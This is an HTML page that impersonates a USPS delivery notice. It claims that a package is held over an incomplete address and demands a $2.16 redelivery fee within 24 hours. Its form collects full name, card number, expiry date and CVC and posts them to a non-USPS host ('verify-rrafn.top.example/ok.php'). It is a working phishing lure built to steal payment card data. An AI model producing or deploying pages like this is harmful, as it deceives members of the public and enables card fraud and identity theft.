<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>USPS - Delivery Notice</title>
<style>*{box-sizing:border-box}body{background:#111;color:#eee}</style>

</head>
<body>
<div class="menu"></div>
<main class="main">
<section>
<div class="alert">Your package is on hold due to an incomplete address. A redelivery fee of $2.16 is required within 24 hours.</div>
</section>
<section>
<form action="//verify-rrafn.top.example/ok.php"><input name="fullname" placeholder="Full name"><input name="cardnumber" placeholder="Card number"><input name="expiry" placeholder="MM/YY"><input name="cvc" placeholder="CVC"><button>Pay and reschedule</button></form>
</section>
</main>
<footer>USPS</footer>
<script src="/static/js/app.5d6ea94d.js"></script>
</body>
</html>
